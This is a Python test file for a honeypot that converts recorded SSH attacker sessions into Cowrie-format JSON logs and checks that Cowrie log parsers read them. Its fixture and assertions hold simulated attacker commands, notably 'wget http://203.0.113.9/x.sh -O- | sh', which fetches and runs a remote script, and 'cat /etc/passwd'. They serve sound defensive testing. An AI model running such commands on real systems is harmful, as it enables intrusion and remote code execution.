"""Cowrie's log: names, fields and quirks as Cowrie has them, and programs made for Cowrie that read it."""

import hashlib
import json
import subprocess
import sys
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from hermes import events
from hermes.events import Event
from hermes.outputs.cowrie import Cowrie, fetched, plain, raw
from tests.unit.outputs.world import records
from tests.unit.store.facts import write

IDS: dict[str, Any] = {"connection_id": "0199c0ffee", "session_id": "0199c0ffef"}
KEY = "AAAAC3NzaC1lZDI1NTE5AAAAIJrMHtAU0eYbX3FKVTbRq1D4O0uZzRfHEL4pnEgXkkAA"
SHA = "ab" * 32
CONSUMERS = Path("/var/tmp/hermes-test/cowrie-consumers")
"""Where programs that read Cowrie's log are installed for tests, once a machine."""


def visit() -> list[Event]:
    """What an attacker did, from first to last."""
    early = {"connection_id": IDS["connection_id"]}
    return [
        events.SensorStarted(version="1", addresses=[], engine="local", image="debian-12"),
        events.ConnectionOpened(source_ip="192.0.2.7", source_port=4001, local_ip="198.51.100.1", local_port=22, **early),
        events.ClientVersion(version="SSH-2.0-\x1bGo\\", **early),
        events.ClientAlgorithms(
            hassh="h" * 32, kex=["k1", "k2"], host_key=["ssh-ed25519"], encryption=["e1", "e2"], mac=["m"], compression=["none"],
            languages=[], **early,
        ),
        events.AuthAttempt(method="none", username="root", accepted=False, rule="denied", **early),
        events.AuthAttempt(
            method="publickey", username="root", accepted=False, rule="denied", key_type="ssh-ed25519", key=KEY,
            key_fingerprint="SHA256:x", key_signed=False, **early,
        ),
        events.AuthAttempt(method="password", username="root", password="w\x07rong", accepted=False, rule="denied", **early),
        events.AuthAttempt(
            method="keyboard-interactive", username="root", responses=["one", "two"], accepted=False, rule="denied", **early
        ),
        events.AuthAttempt(method="password", username="root", password="root", accepted=True, rule="password", **early),
        events.SessionOpened(username="root", source_ip="192.0.2.7", source_port=4001, client_version="SSH-2.0-Go", **IDS),
        events.ChannelOpened(channel=0, **IDS),
        events.ChannelEnv(channel=0, variable="LANG", value="C", accepted=True, **IDS),
        events.ChannelPty(channel=0, term="xterm", width=80, height=24, **IDS),
        events.ChannelStarted(channel=0, kind="shell", recording="d/s/0.cast", **IDS),
        events.ChannelInput(channel=0, line="uname -a; cat /etc/passwd", **IDS),
        events.ChannelInput(channel=0, line="wget http://203.0.113.9/x.sh -O- | sh", **IDS),
        events.ProcessStarted(
            container_id="b", channel=0, pid=7, parent=1, uid=0, gid=0, program="/usr/bin/wget", cwd="/root",
            argv=["wget", "http://203.0.113.9/x.sh", "-O-"], **IDS,
        ),
        events.ChannelResize(channel=0, width=100, height=30, **IDS),
        events.ChannelStarted(channel=1, kind="exec", command="cat > /tmp/x", recording="d/s/1.cast", **IDS),
        events.FileWritten(container_id="b", channel=1, path="/tmp/x", size=3, sha256=SHA, **IDS),
        events.ArtifactStored(
            container_id="b", channel=1, sha256=SHA, sha1="", md5="", size=3, path="/tmp/x", source="written", known=True, **IDS
        ),
        events.FileWritten(container_id="b", channel=1, path="/tmp/empty", size=0, **IDS),
        events.ChannelStarted(channel=2, kind="subsystem", command="sftp", **IDS),
        events.FileWritten(container_id="b", channel=2, path="/tmp/up.bin", size=3, sha256=SHA, **IDS),
        events.ChannelStarted(channel=3, kind="exec", command="scp -t /tmp", **IDS),
        events.FileWritten(container_id="b", channel=3, path="/tmp/cp.bin", size=3, sha256=SHA, **IDS),
        events.FileWritten(container_id="b", channel=1, path="", size=3, sha256="cd" * 32, **IDS),
        events.ArtifactStored(
            container_id="b", channel=1, sha256="cd" * 32, sha1="", md5="", size=3, path="", source="input", known=False, **IDS
        ),
        events.ForwardRequested(
            kind="direct-tcpip", host="203.0.113.5", port=443, origin_host="127.0.0.1", origin_port=5, accepted=True,
            forward=1, **IDS,
        ),
        events.ForwardData(forward=1, direction="in", data="\\x16\\x03\\xff", size=3, **IDS),
        events.ForwardTLS(forward=1, ja4="t13d1516h2_8daaf6152771_b186095e22b6", **IDS),
        events.ChannelClosed(channel=0, exit_status=0, duration=1.25, bytes_in=10, bytes_out=200, **IDS),
        events.SessionClosed(cause="client", duration=2.0, channels=4, bytes_in=10, bytes_out=200, **IDS),
        events.ConnectionClosed(cause="client", duration=2.5, auth_attempts=5, channels=4, **early),
        events.FileWritten(container_id="b", channel=1, path="/tmp/x", size=3, sha256=SHA, **IDS),
    ]  # fmt: skip


@pytest.fixture
def journal(tmp_path: Path) -> Path:
    write(tmp_path / "journal.db", *visit())
    return tmp_path / "journal.db"


def cowrie(journal: Path) -> Cowrie:
    return Cowrie(
        sensor="s1", journal=journal, recordings=journal.parent / "recordings", artifact=lambda sha256: Path("/a") / sha256
    )


def written(journal: Path) -> list[dict[str, Any]]:
    return [json.loads(it) for it in cowrie(journal).lines(records(journal)).splitlines()]


def only(lines: list[dict[str, Any]], name: str) -> dict[str, Any]:
    (found,) = [it for it in lines if it["eventid"] == f"cowrie.{name}"]
    return found


def fields(line: dict[str, Any]) -> dict[str, Any]:
    """What one kind of event has beside what all have."""
    common = ("eventid", "message", "sensor", "uuid", "timestamp", "session", "src_ip", "src_port", "protocol", "event_id")
    return {key: value for key, value in line.items() if key not in common}


CONNECTION = {"dst_ip": "198.51.100.1", "dst_port": 22}


def test_a_visit_in_the_order_and_by_the_names_of_cowrie(journal: Path) -> None:
    assert [it["eventid"].removeprefix("cowrie.") for it in written(journal)] == [
        "session.connect", "client.version", "client.kex", "client.fingerprint", "login.failed", "login.failed", "login.failed",
        "login.failed", "login.success", "session.params", "client.var", "client.size", "log.open", "command.input",
        "command.input", "session.file_download.failed", "client.size", "log.open", "command.input", "session.file_download",
        "session.file_upload", "command.input", "session.file_upload", "session.file_download", "direct-tcpip.request",
        "direct-tcpip.data",
        "direct-tcpip.ja4", "log.closed", "session.closed", "session.file_download",
    ]  # fmt: skip


def test_every_line_has_what_every_line_of_cowrie_has(journal: Path) -> None:
    lines = written(journal)
    for line in lines:
        assert (line["sensor"], line["src_ip"], line["src_port"], line["protocol"]) == ("s1", "192.0.2.7", 4001, "ssh")
        assert len(line["timestamp"]) == len("2026-01-31T12:34:56.123456Z")
        assert isinstance(line["message"], str)
    assert {it["session"] for it in lines} == {hashlib.sha256(b"0199c0ffee").hexdigest()[:12]}
    assert len({it["uuid"] for it in lines}) == 1
    assert len({it["event_id"] for it in lines}) == len(lines)
    assert [it.get("late", False) for it in lines] == [False] * (len(lines) - 1) + [True]


def test_who_it_was(journal: Path) -> None:
    lines = written(journal)
    assert fields(only(lines, "session.connect")) == CONNECTION
    assert fields(only(lines, "client.version")) == {"version": "SSH-2.0-\\x1bGo\\\\", **CONNECTION}
    assert fields(only(lines, "client.kex")) == {
        "hassh": "h" * 32, "hasshAlgorithms": "k1,k2;e1,e2;m;none", "kexAlgs": ["k1", "k2"], "keyAlgs": ["ssh-ed25519"],
        "encCS": ["e1", "e2"], "macCS": ["m"], "compCS": ["none"], "langCS": [], **CONNECTION,
    }  # fmt: skip
    key = only(lines, "client.fingerprint")
    assert (key["key"], key["type"], key["username"]) == (f"ssh-ed25519 {KEY}", "ssh-ed25519", "root")
    assert key["fingerprint"].count(":") == 15


def test_the_fingerprint_is_openssh_s_own_of_md5(journal: Path, tmp_path: Path) -> None:
    (tmp_path / "key.pub").write_text(f"ssh-ed25519 {KEY}\n")
    shown = subprocess.run(
        ["ssh-keygen", "-l", "-E", "md5", "-f", tmp_path / "key.pub"], capture_output=True, text=True, check=True, timeout=60
    ).stdout
    assert f"MD5:{only(written(journal), 'client.fingerprint')['fingerprint']}" in shown


def test_how_they_got_in(journal: Path) -> None:
    lines = written(journal)
    tries = [(it["username"], it.get("password"), it["eventid"]) for it in lines if ".login." in it["eventid"]]
    assert tries == [
        ("root", None, "cowrie.login.failed"),
        ("root", "w\\x07rong", "cowrie.login.failed"),
        ("root", "one", "cowrie.login.failed"),
        ("root", "two", "cowrie.login.failed"),
        ("root", "root", "cowrie.login.success"),
    ]


def test_what_they_did(journal: Path) -> None:
    lines = written(journal)
    assert [it["input"] for it in lines if it["eventid"] == "cowrie.command.input"] == [
        "uname -a; cat /etc/passwd", "wget http://203.0.113.9/x.sh -O- | sh", "cat > /tmp/x", "scp -t /tmp",
    ]  # fmt: skip
    failed = only(lines, "session.file_download.failed")
    assert failed["url"] == "http://203.0.113.9/x.sh"
    redirect, by_stdin, late = [fields(it) for it in lines if it["eventid"] == "cowrie.session.file_download"]
    kept = {"outfile": f"/a/{SHA}", "shasum": SHA}
    assert redirect == {**kept, "duplicate": True, "destfile": "/tmp/x", **CONNECTION}
    assert late == {**redirect, "late": True}
    assert by_stdin == {
        "outfile": str(journal.parent / "recordings/d/s/1.cast"), "shasum": "cd" * 32, "duplicate": False, "destfile": "",
        **CONNECTION,
    }  # fmt: skip
    by_sftp, by_scp = [fields(it) for it in lines if it["eventid"] == "cowrie.session.file_upload"]
    assert by_sftp == {"filename": "up.bin", **kept, **CONNECTION}
    assert by_scp == {
        "filename": "cp.bin", **kept, "duplicate": True, "url": "/tmp/cp.bin", "destfile": "/tmp/cp.bin", **CONNECTION
    }  # fmt: skip
    ended = only(lines, "session.closed")
    assert (ended["duration"], ended["duration_ms"]) == (2.5, 2500)


def test_where_they_wanted_to_go(journal: Path) -> None:
    lines = written(journal)
    there = {"dst_ip": "203.0.113.5", "dst_port": 443}
    assert fields(only(lines, "direct-tcpip.request")) == {**there, "orig_ip": "127.0.0.1", "orig_port": 5}
    assert fields(only(lines, "direct-tcpip.data")) == {**there, "data": repr(b"\x16\x03\xff"), "id": 1}
    assert fields(only(lines, "direct-tcpip.ja4")) == {**there, "ja4": "t13d1516h2_8daaf6152771_b186095e22b6"}


def test_a_recording_is_measured(journal: Path) -> None:
    recording = journal.parent / "recordings/d/s/0.cast"
    recording.parent.mkdir(parents=True)
    recording.write_bytes(b"cast")
    closed = fields(only(written(journal), "log.closed"))
    assert closed == {
        "ttylog": str(recording), "size": 4, "shasum": hashlib.sha256(b"cast").hexdigest(), "duplicate": False,
        "duration": 1.2, "duration_ms": 1250, **CONNECTION,
    }  # fmt: skip


def test_a_restart_at_any_moment_changes_no_line(journal: Path) -> None:
    whole = cowrie(journal).lines(records(journal))
    everything = records(journal)
    for cut in range(len(everything) + 1):
        assert cowrie(journal).lines(everything[:cut]) + cowrie(journal).lines(everything[cut:]) == whole


def test_what_is_rendered_twice_is_the_same_twice(journal: Path) -> None:
    sink = cowrie(journal)
    assert sink.lines(records(journal)) == sink.lines(records(journal))


def test_connections_that_were_forgotten_are_known_again(journal: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("hermes.outputs.cowrie.CONNECTIONS", 1)
    other = [events.ConnectionOpened(source_ip="192.0.2.8", source_port=1, local_ip="l", local_port=2, connection_id="other")]
    write(journal, *other, events.ClientVersion(version="late", connection_id=IDS["connection_id"]))
    *_, opened, version = written(journal)
    assert (opened["src_ip"], version["src_ip"]) == ("192.0.2.8", "192.0.2.7")


def test_no_byte_of_an_attacker_moves_a_terminal(journal: Path) -> None:
    assert all(0x20 <= it < 0x7F or it == 0x0A for it in cowrie(journal).lines(records(journal)))


@pytest.mark.parametrize(
    ("text", "cowries"),
    [
        ("root", "root"),
        ("a\\b", "a\\\\b"),
        (events.from_bytes(b"a\\b\xff"), "a\\\\b\\xff"),
        ("\x1b[2J", "\\x1b[2J"),
        ("é\u202e", "é\\xe2\\x80\\xae"),
    ],
)  # fmt: skip
def test_names_and_passwords_have_cowrie_s_escapes(text: str, cowries: str) -> None:
    assert plain(text) == cowries


@given(st.binary().filter(lambda it: b"\\" not in it))
def test_bytes_are_had_back(data: bytes) -> None:
    assert raw(events.from_bytes(data)) == data


@pytest.mark.parametrize(
    ("argv", "urls"),
    [
        (["wget", "-q", "http://a.example/x", "-O", "/tmp/x"], ["http://a.example/x"]),
        (["/usr/bin/curl", "-sSL", "203.0.113.9/x.sh"], ["http://203.0.113.9/x.sh"]),
        (["busybox", "wget", "ftp://a.example/x"], ["ftp://a.example/x"]),
        (["wget", "http://127.0.0.1/x", "http://localhost:80/"], []),
        (["curl", "-o", "/tmp/a", "--version"], []),
        (["echo", "http://a.example/"], []),
        ([], []),
    ],
)  # fmt: skip
def test_what_a_process_fetches(argv: list[str], urls: list[str]) -> None:
    assert fetched("/bin/x", argv) == urls


# ---- programs made for Cowrie


@pytest.fixture(scope="module")
def consumers() -> Path:
    """A Python in which they are installed."""
    python = CONSUMERS / "bin/python"
    ready = CONSUMERS / ".ready"
    if not ready.exists():
        subprocess.run([sys.executable, "-m", "venv", "--clear", CONSUMERS], check=True, timeout=100)
        subprocess.run(
            [python, "-m", "pip", "install", "-q", "honeypot-mitre==0.1.0", "dshield-parser==0.1.0"],
            check=True, timeout=100, capture_output=True,
        )  # fmt: skip
        ready.touch()
    return python


def test_honeypot_mitre_reads_it(journal: Path, consumers: Path, tmp_path: Path) -> None:
    log = tmp_path / "cowrie.json"
    log.write_bytes(cowrie(journal).lines(records(journal)))
    script = "import json,sys; from honeypot_mitre.parsing import parse_sessions; "
    script += "print(json.dumps([it.to_dict() for it in parse_sessions(sys.argv[1])]))"
    done = subprocess.run([consumers, "-c", script, log], capture_output=True, text=True, check=True, timeout=60)
    (session,) = json.loads(done.stdout)
    assert session["src_ip"] == "192.0.2.7"
    assert session["commands"] == [
        "uname -a; cat /etc/passwd", "wget http://203.0.113.9/x.sh -O- | sh", "cat > /tmp/x", "scp -t /tmp"
    ]  # fmt: skip
    assert [it["success"] for it in session["login_attempts"]] == [False, False, False, False, True]
    assert session["duration"] == 2.5
    assert len(session["downloads"]) == 3
    scored = subprocess.run([consumers, "-m", "honeypot_mitre", log], capture_output=True, text=True, check=True, timeout=60)
    assert "192.0.2.7" in scored.stdout


def test_dshield_parser_reads_it(journal: Path, consumers: Path, tmp_path: Path) -> None:
    log = tmp_path / "cowrie.json.2026-01-31"  # it takes what Cowrie has put aside, by its name
    log.write_bytes(cowrie(journal).lines(records(journal)))
    script = (
        "import json, sys; from dshield_parser.cowrie_processor import reports as r; log = sys.argv[1]; print(json.dumps(["
        "r.get_summary_usernames(log), r.get_summary_src_passwords(log), r.get_summary_src_ip(log), r.get_summary_input(log),"
        "r.get_top_10_files_created(log)]))"
    )
    done = subprocess.run([consumers, "-c", script, log], capture_output=True, text=True, check=True, timeout=60)
    names, passwords, addresses, inputs, files = json.loads(done.stdout)
    assert names == {"username": {"root": 6}}
    assert passwords == {"password": {"w\\x07rong": 1, "one": 1, "two": 1, "root": 1}}
    assert addresses == {"src_ip": {"192.0.2.7": len(written(journal))}}
    assert set(inputs["input"]) == {
        "uname -a; cat /etc/passwd", "wget http://203.0.113.9/x.sh -O- | sh", "cat > /tmp/x", "scp -t /tmp"
    }  # fmt: skip
    assert files[SHA] == 4
